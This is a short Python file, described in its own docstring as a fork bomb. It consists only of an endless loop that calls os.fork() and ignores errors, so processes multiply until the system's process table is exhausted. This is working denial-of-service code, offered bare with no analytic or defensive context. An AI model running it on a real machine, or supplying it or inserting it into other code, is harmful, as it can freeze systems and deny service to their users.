"""Fork bomb: every process forks forever."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
